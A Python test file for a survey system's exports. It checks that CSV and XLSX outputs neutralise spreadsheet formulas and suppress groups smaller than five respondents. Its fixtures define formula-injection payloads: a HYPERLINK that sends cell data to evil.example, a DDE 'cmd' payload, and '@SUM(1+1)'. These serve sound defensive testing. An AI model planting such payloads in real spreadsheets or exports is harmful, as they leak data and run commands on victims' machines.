"""Fieldwork exports: the responses file passes the k = 5 rule and no export carries a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import update
from sqlmodel import Session, col, select

from survey.disclosure import K
from survey.draws import export_sample
from survey.fieldwork_exports import disposition_table, response_export, to_csv, to_xlsx
from survey.models import Campaign, Dossier, Response
from survey.settings import Settings
from tests.survey.campaign_factory import build_fieldwork
from tests.survey.release_fixtures import STRATA, build_release_campaign

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
IMPORTED = "+cmd|' /C calc'!A0"


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def _sheet_cells(content: bytes, name: str | None = None) -> list[list[Any]]:
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook[name] if name else workbook.active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows()]


def test_responses_export_neutralises_free_text_and_imported_values(
    session: Session, settings: Settings
) -> None:
    rc = build_release_campaign(session)
    responses = session.exec(select(Response).where(col(Response.status) == "completed")).all()
    for response in responses:
        response.answers = {**response.answers, "comments": FORMULA}
        response.procedure_field = IMPORTED  # as the agency's frame spelled it
    session.add_all(responses)
    session.commit()
    export = response_export(session=session, settings=settings, campaign_id=rc.campaign_id)
    rows = _csv(to_csv(export.header, export.rows))
    assert {r["comments"] for r in rows} == {"'" + FORMULA}
    assert {r["procedure_field"] for r in rows} == {"'" + IMPORTED}
    assert all(float(r["weight"]) > 0 for r in rows)  # numbers are numbers
    cells = _sheet_cells(to_xlsx(export.header, export.rows, sheet="responses"))
    header = [c.value for c in cells[0]]
    comment = header.index("comments")
    assert {(row[comment].value, row[comment].data_type) for row in cells[1:]} == {
        ("'" + FORMULA, "s")
    }
    assert not [c for row in cells for c in row if c.data_type == "f"]


def test_responses_export_coarsens_generalises_and_counts_what_it_left_out(
    session: Session, settings: Settings
) -> None:
    spec = {**STRATA, "E": ("AG-E", "01", 40, 8, 4)}  # four respondents: fewer than k
    rc = build_release_campaign(session, strata_spec=spec)
    # One lone procedure field in stratum A: shown, it would single its respondent out.
    lone = session.exec(
        select(Response).where(col(Response.stratum) == "A", col(Response.status) == "completed")
    ).first()
    assert lone is not None
    lone.procedure_field = "Đất đai"
    session.add(lone)
    session.commit()
    session.refresh(lone)
    export = response_export(session=session, settings=settings, campaign_id=rc.campaign_id)
    rows = _csv(to_csv(export.header, export.rows))
    assert export.respondents == len(rc.strata) and export.suppressed == 4
    assert len(rows) == len(rc.strata) - 4 and "AG-E" not in {r["agency_code"] for r in rows}
    # The lone field's whole group (stratum A, its channel) reads "*", not the lone row alone.
    group = [r for r in rows if r["stratum"] == "A" and r["channel"] == lone.channel]
    assert len(group) >= K and {r["procedure_field"] for r in group} == {"*"}
    assert "Đất đai" not in {r["procedure_field"] for r in rows}
    assert {r["procedure_field"] for r in rows if r["stratum"] == "B"} == {"Hộ tịch"}
    assert {r["channel"] for r in rows} == {"direct", "online"}  # >= 5 each: kept
    assert {len(r["completed_month"]) for r in rows} == {7}  # YYYY-MM, no day
    assert "completed_date" not in export.header and "invitation_id" not in export.header
    shared = ("stratum", "weight", "agency_code", "province_code", "level", "procedure_field")
    combos: dict[tuple[str, ...], int] = {}
    for r in rows:
        key = tuple(r[c] for c in (*shared, "channel", "completed_month"))
        combos[key] = combos.get(key, 0) + 1
    assert min(combos.values()) >= K
    notes = _sheet_cells(
        to_xlsx(export.header, export.rows, sheet="responses", notes=export.notes()), "notes"
    )
    text = " ".join(str(c.value) for row in notes for c in row)
    assert f"Rows left out (groups of fewer than 5): 4 of {export.respondents}" in text
    assert "procedure_field (" in text and "Số dòng bị lược bỏ" in text


def test_dispositions_and_sample_exports_neutralise_imported_values(
    session: Session, settings: Settings
) -> None:
    fw = build_fieldwork(session, n=6)
    assert fw.campaign.id is not None
    session.execute(update(Dossier).values(agency_code="@SUM(1+1)", agency_name=FORMULA))
    session.commit()
    header, rows = disposition_table(session=session, campaign_id=fw.campaign.id, by="agency")
    assert {r["agency"] for r in _csv(to_csv(header, rows))} == {"'@SUM(1+1)"}
    xlsx = _sheet_cells(to_xlsx(header, rows, sheet="dispositions"))
    assert (xlsx[1][0].value, xlsx[1][0].data_type) == ("'@SUM(1+1)", "s")
    campaign = session.get(Campaign, fw.campaign.id)
    assert campaign is not None
    sample = export_sample(session=session, draw_id=campaign.draw_id, fmt="csv")
    table = _csv(b"".join(sample.chunks).decode("utf-8"))
    assert {r["agency_name"] for r in table} == {"'" + FORMULA}
    assert {r["inclusion_prob"] for r in table} == {"0.5"}
    book = export_sample(session=session, draw_id=campaign.draw_id, fmt="xlsx")
    workbook = load_workbook(io.BytesIO(b"".join(book.chunks)))
    sheet = workbook.active
    assert sheet is not None
    names = [row[3] for row in sheet.iter_rows(min_row=2)]
    assert {(c.value, c.data_type) for c in names} == {("'" + FORMULA, "s")}
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
